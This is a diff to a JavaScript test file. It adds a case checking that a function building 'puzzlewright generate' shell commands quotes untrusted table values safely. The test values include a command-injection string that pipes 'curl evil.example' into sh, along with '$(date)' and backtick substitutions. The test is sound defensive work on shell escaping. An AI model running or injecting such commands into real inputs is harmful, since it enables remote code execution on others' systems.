@@ -27,6 +27,18 @@ describe('commands of a table', () => {
     ])
   })
 
+  it('are words of the puzzles and nothing else, even if the table came from a stranger', () => {
+    const hostile = {
+      family: 'sudoku; curl evil.example|sh #',
+      shape: '9x9 $(date)',
+      order: 'stars=`date`,min&imal',
+    }
+    const [command] = commandsOf([piece(1, { order: hostile, run: "it's", number: 0, seed: "it's/0" })])
+    expect(command).toBe(
+      "puzzlewright generate 'sudoku; curl evil.example|sh #' --shape '9x9 $(date)' --stars '`date`' '--min&imal' -n 1 --seed 'it'\\''s'",
+    )
+  })
+
   it('are those that print for puzzles that were set or read, and none for an empty table', () => {
     expect(commandsOf([piece(1)], book)).toHaveLength(3)
     expect(commandsOf([], book)).toEqual([])
